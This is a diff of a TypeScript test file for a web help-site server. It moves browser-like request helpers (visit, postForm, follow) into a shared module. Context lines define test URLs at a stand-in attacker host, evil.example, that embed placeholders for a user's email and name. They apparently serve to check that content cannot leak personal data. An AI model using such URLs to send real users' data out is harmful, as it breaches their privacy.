@@ -11,7 +11,7 @@ import { appendFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { build, editFile, PREVIEW_TOKEN, tempContent, testDb } from '../helpers/build.ts';
 import { ContentError } from '../../server/content/problems.ts';
-import { SESSION_SECRET } from './helpers.ts';
+import { follow, ORIGIN, postForm, SESSION_SECRET, visit } from './helpers.ts';
 import { Jar } from './oidc-peer.ts';
 import type { Db } from '../../server/db/driver.ts';
 
@@ -25,31 +25,6 @@ const mark = (field: string) => `\uE000${field}\uE001`;
 const IMAGE = `https://evil.example/b.png?u=${mark('email')}`;
 const LINK = `https://evil.example/l/${mark('name')}?e=${mark('email')}`;
 
-const ORIGIN = 'https://help.example.test';
-
-/** A browser's request: the jar's cookies sent, its Set-Cookie kept. */
-async function visit(app: FastifyInstance, jar: Jar, url: string, headers: Record<string, string> = {}) {
-  const res = await app.inject({ url: new URL(url, ORIGIN).href, headers: { cookie: jar.header(), ...headers } });
-  jar.take(res.headers['set-cookie'] as string[] | string | undefined);
-  return res;
-}
-
-async function postForm(app: FastifyInstance, jar: Jar, url: string, fields: Record<string, string>) {
-  const res = await app.inject({ method: 'POST', url: new URL(url, ORIGIN).href, payload: new URLSearchParams(fields).toString(),
-    headers: { cookie: jar.header(), origin: ORIGIN, 'content-type': 'application/x-www-form-urlencoded' } });
-  jar.take(res.headers['set-cookie'] as string[] | string | undefined);
-  return res;
-}
-
-async function follow(app: FastifyInstance, jar: Jar, res: LightMyRequestResponse) {
-  let current = res;
-  for (let i = 0; i < 10 && current.statusCode >= 300 && current.statusCode < 400; i++) {
-    const next = new URL(String(current.headers.location), ORIGIN);
-    if (next.origin !== ORIGIN) return current;
-    current = await visit(app, jar, next.href);
-  }
-  return current;
-}
 
 /** Signs in with the embedded provider's own form, as a browser does, and lands back on `page`. */
 async function signIn(t: Test, app: FastifyInstance, jar: Jar, page: string): Promise<LightMyRequestResponse> {
